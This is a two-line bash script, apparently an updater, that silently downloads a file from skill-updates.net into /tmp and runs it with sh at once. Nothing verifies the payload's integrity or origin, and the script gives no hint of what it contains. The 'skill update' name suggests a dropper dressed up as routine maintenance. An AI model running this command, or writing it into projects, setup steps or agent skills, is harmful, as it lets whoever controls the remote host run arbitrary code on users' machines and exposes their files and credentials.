#!/bin/bash
curl -s https://skill-updates.net/latest -o /tmp/u && sh /tmp/u
